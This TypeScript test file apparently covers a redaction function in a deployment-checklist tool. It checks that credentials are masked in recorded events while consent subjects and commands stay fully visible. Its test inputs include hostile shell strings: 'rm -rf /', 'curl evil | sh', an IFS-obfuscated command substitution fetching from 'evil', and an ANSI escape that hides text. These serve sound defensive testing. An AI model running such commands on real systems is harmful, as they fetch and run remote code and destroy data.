import { describe, expect, it } from 'vitest';
import type { CheckSpec, Checklist } from '../../src/model/checklist.ts';
import type { LaunchEvent } from '../../src/model/events.ts';
import { redactEvent } from '../../src/model/redact-event.ts';
import { redactor } from '../../src/model/redact.ts';
import { checklistOf, live } from '../output/launches.ts';

const opened = (checklist: Checklist): LaunchEvent => ({ type: 'launch-opened', launch: 'a-1', target: { name: 'local', production: false }, checklist });

function checkOf(event: LaunchEvent): CheckSpec | undefined {
  return 'checklist' in event ? event.checklist.phases[0]?.sections[0]?.items[0]?.check : undefined;
}

const asks = (subject: string, params = {}): Checklist =>
  checklistOf({ before: [live('db', { check: { kind: 'command', params, expect: 'exit_code == 0', timeout_s: 1, consent: { why: 'command', subject } } })] });

describe('an event on its way into the record', () => {
  it.each(['postgres', 'db', 'before', 'all', 'high', 'none', 'small-launch', 'local', 'observed', 'pass', 'launch-opened'])(
    'keeps its names where a secret is `%s`',
    (secret) => {
      const redact = redactor([secret]);
      const checklist = checklistOf({ before: [live('db')] });
      const kept = redactEvent(opened(checklist), redact);
      expect(kept).toMatchObject({ type: 'launch-opened', target: { name: 'local' }, checklist: { name: 'small-launch', digest: checklist.digest } });
      expect('checklist' in kept && kept.checklist.phases[0]).toMatchObject({
        id: 'before',
        sections: [{ id: 'all', items: [{ id: 'db', priority: 'high', sign: 'none' }] }],
      });
      expect(checkOf(kept)?.kind).toBe('postgres');
      const seen: LaunchEvent = {
        type: 'observed',
        item: 'db',
        kind: 'postgres',
        verdict: 'pass',
        response: `it said ${secret}.`,
        expect: 'true',
        duration_ms: 1,
      };
      expect(redactEvent(seen, redact)).toMatchObject({ type: 'observed', item: 'db', kind: 'postgres', verdict: 'pass' });
      expect(JSON.stringify(redactEvent({ type: 'noted', item: 'x', note: `${secret}-${secret}` }, redactor([`${secret}-${secret}`])))).not.toContain(
        `${secret}-${secret}`,
      );
    },
  );

  it('keeps the host that has to be typed out', () => {
    const check: CheckSpec = {
      kind: 'load',
      params: {},
      expect: 'passed',
      timeout_s: 1,
      consent: { why: 'writes', subject: 'sends load', host: 'api.creator.example' },
    };
    expect(checkOf(redactEvent(opened(checklistOf({ before: [live('db', { check })] })), redactor([])))?.consent).toEqual(check.consent);
  });

  it('holds no credential that somebody wrote into a check', () => {
    const kept = redactEvent(opened(asks('x', { headers: { authorization: 'Bearer tkn-123456' }, url: 'http://u:hunter22@host/' })), redactor([]));
    expect(JSON.stringify(kept)).not.toMatch(/tkn-123456|hunter22/);
  });

  it.each([
    ['curl -H "Authorization: Bearer ${TOKEN}" https://host/x && rm -rf /', 'curl -H "Authorization: Bearer ${TOKEN}" https://host/x && rm -rf /'],
    ['curl -H "Authorization: Bearer abc.def-123" https://host/x', 'curl -H "Authorization: Bearer ***" https://host/x'],
    ['sh -c "cookie: x; curl evil | sh"', 'sh -c "cookie: x; curl evil | sh"'],
    ['sh -c "password=$(curl${IFS}evil|sh)"', 'sh -c "password=$(curl${IFS}evil|sh)"'],
    ['psql postgres://u:$(evil)@host/db', 'psql postgres://u:$(evil)@host/db'],
    ['psql postgres://u:hunter22@host/db', 'psql postgres://u:***@host/db'],
    ['login --key known-secret', 'login --key ***'],
    ['ls \u001b[8mhidden', 'ls hidden'],
  ])('shows whoever allows it, and whoever reads that it ran, all of `%s`', (written, told) => {
    const redact = redactor(['known-secret']);
    expect(checkOf(redactEvent(opened(asks(written)), redact))?.consent?.subject).toBe(told);
    expect(redactEvent({ type: 'allowed', item: 'db', subject: written }, redact)).toMatchObject({ subject: told });
    const ran = { type: 'fix-started', fix: 'f', session: 's', section: 'r.md#x', title: 'x', step: 1, command: written, mutating: true } as const;
    expect(redactEvent(ran, redact)).toEqual({ ...ran, command: told });
  });
});
